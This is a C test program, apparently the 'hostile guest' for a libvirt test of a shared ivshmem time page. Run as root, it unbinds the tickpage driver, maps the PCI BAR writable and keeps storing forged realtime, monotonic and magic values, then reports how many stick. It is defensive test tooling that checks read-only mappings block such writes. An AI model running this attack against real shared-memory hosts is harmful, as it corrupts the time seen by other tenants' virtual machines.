// SPDX-License-Identifier: GPL-2.0-or-later OR BSD-2-Clause
/*
 * tp-attack: the hostile guest of tests/libvirt/test-guest-write.py.
 *
 * Root in a guest owns its PCI devices, whatever driver is bound: it
 * unbinds tickpage.ko if the kernel will not map a BAR a driver holds
 * (CONFIG_IO_STRICT_DEVMEM), maps the ivshmem BAR 2 through
 * /sys/bus/pci/devices/BDF/resource2 with PROT_WRITE, and for --seconds
 * stores over and over, without a pause, a realtime of 2001-09-09
 * (realtime_sec 1000000000: one 8-byte store, a page other guests still
 * accept), then for the second half also a monotonic time 146 years
 * ahead and a forged magic. No seqcount, no driver: what an attacker
 * would do. With a
 * writable mapping of the host's file, every VM sharing it reads that
 * time while the stores go on (for good, if the publisher carries the
 * page's own values on); read-only (readonly=on), QEMU drops them.
 *
 * The host reads the result from its own copy of the page, which is the
 * only place that counts; the lines below say what was done and what
 * this guest saw through its own mapping afterwards:
 *
 *   TPA-START bdf=BDF driver=NAME|none
 *   TPA-UNBOUND bdf=BDF driver=NAME
 *   TPA-MAPPED bdf=BDF resource2 writable
 *   TPA-PHASE realtime | realtime+monotonic+magic
 *   TPA-WRITE n=N magic=0x.. realtime_sec=S monotonic_ns=NS
 *            (every --interval-ms: stores so far, and what reads back)
 *   TPA-DONE writes=N checks=C landed=K
 *   TPA-ERROR what: why
 *
 * "landed" counts the checks whose realtime read back as forged.
 *
 * Usage: tp-attack [--seconds=S] [--interval-ms=MS]
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "args.h"
#include "pci-map.h"
#include "tickpage-abi.h"

#define USAGE		"usage: tp-attack [--seconds=S] [--interval-ms=MS]\n"
#define IVSHMEM_VENDOR	0x1af4
#define IVSHMEM_DEVICE	0x1110
#define IVSHMEM_BAR_MEM 2
#define SYSFS_PCI	"/sys/bus/pci/devices"

/* The forgery: recognisable in a hex dump and in a date. */
#define FORGED_MAGIC	    0x4b434148u	 /* "HACK" */
#define FORGED_REALTIME_SEC 1000000000ll /* 2001-09-09 */
#define FORGED_MONOTONIC_NS (1ull << 62) /* ~146 years */

/* The driver bound to @bdf, in @name (empty when none). */
static void bound_driver(const char *bdf, char *name, size_t len)
{
	char path[256], target[PATH_MAX];
	const char *base;
	ssize_t n;

	name[0] = 0;
	snprintf(path, sizeof(path), SYSFS_PCI "/%s/driver", bdf);
	n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return;
	target[n] = 0;
	base = strrchr(target, '/');
	base = base ? base + 1 : target;
	if (strlen(base) < len)
		memcpy(name, base, strlen(base) + 1);
}

static int unbind(const char *bdf)
{
	char path[256];
	int fd, ok;

	snprintf(path, sizeof(path), SYSFS_PCI "/%s/driver/unbind", bdf);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		return -errno;
	ok = write(fd, bdf, strlen(bdf)) == (ssize_t)strlen(bdf);
	close(fd);
	return ok ? 0 : -EIO;
}

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000ll + ts.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
	long seconds = 5, interval_ms = 50, rounds = 0, n, landed = 0;
	long long half, end, next;
	int all = 0;
	volatile struct tickpage *tp;
	char bdf[32], drv[64];
	int i;

	for (i = 1; i < argc; i++) {
		if (!strncmp(argv[i], "--seconds=", 10)) {
			seconds = arg_long("tp-attack", argv[i] + 10, 1, 3600);
		} else if (!strncmp(argv[i], "--interval-ms=", 14)) {
			interval_ms =
				arg_long("tp-attack", argv[i] + 14, 1, 10000);
		} else {
			fputs(USAGE, stderr);
			return 2;
		}
	}
	setvbuf(stdout, NULL, _IOLBF, 0);

	if (tpvm_pci_find(IVSHMEM_VENDOR, IVSHMEM_DEVICE, bdf)) {
		printf("TPA-ERROR find: no ivshmem device %04x:%04x\n",
		       IVSHMEM_VENDOR, IVSHMEM_DEVICE);
		return 1;
	}
	bound_driver(bdf, drv, sizeof(drv));
	printf("TPA-START bdf=%s driver=%s\n", bdf, drv[0] ? drv : "none");

	tp = tpvm_pci_map_bar(bdf, IVSHMEM_BAR_MEM, TICKPAGE_PAGE_SIZE,
			      PROT_READ | PROT_WRITE);
	if (!tp && errno == EINVAL && drv[0]) {
		/* The kernel keeps user space off a BAR a driver holds;
		 * root takes the driver away. */
		int err = unbind(bdf);

		if (err) {
			printf("TPA-ERROR unbind %s: %s\n", drv,
			       strerror(-err));
			return 1;
		}
		printf("TPA-UNBOUND bdf=%s driver=%s\n", bdf, drv);
		tp = tpvm_pci_map_bar(bdf, IVSHMEM_BAR_MEM, TICKPAGE_PAGE_SIZE,
				      PROT_READ | PROT_WRITE);
	}
	if (!tp) {
		printf("TPA-ERROR mmap %s resource%d writable: %s\n", bdf,
		       IVSHMEM_BAR_MEM, strerror(errno));
		return 1;
	}
	printf("TPA-MAPPED bdf=%s resource%d writable\n", bdf, IVSHMEM_BAR_MEM);

	/*
	 * Store without pause: a publisher that rewrites the whole page
	 * every tick only shortens how long each forgery is seen, so the
	 * page is kept forged for the whole run, and every --interval-ms a
	 * line says what this guest reads back.
	 */
	half = now_ms() + seconds * 500;
	end = half + seconds * 500;
	next = 0;
	printf("TPA-PHASE realtime\n");
	for (n = 0;; n++) {
		uint32_t magic;
		long long t;

		tp->realtime_sec = FORGED_REALTIME_SEC;
		if (all) {
			tp->monotonic_ns = FORGED_MONOTONIC_NS;
			tp->magic = FORGED_MAGIC;
		}
		if (n % 256)
			continue;
		t = now_ms();
		if (t < next)
			continue;
		if (t >= end)
			break;
		if (!all && t >= half) {
			all = 1;
			printf("TPA-PHASE realtime+monotonic+magic\n");
		}
		next = t + interval_ms;
		__atomic_thread_fence(__ATOMIC_SEQ_CST);
		magic = tp->magic;
		rounds++;
		landed += tp->realtime_sec == FORGED_REALTIME_SEC;
		printf("TPA-WRITE n=%ld magic=0x%08x realtime_sec=%lld "
		       "monotonic_ns=%llu\n",
		       n, magic, (long long)tp->realtime_sec,
		       (unsigned long long)tp->monotonic_ns);
	}
	printf("TPA-DONE writes=%ld checks=%ld landed=%ld\n", n, rounds,
	       landed);
	return 0;
}
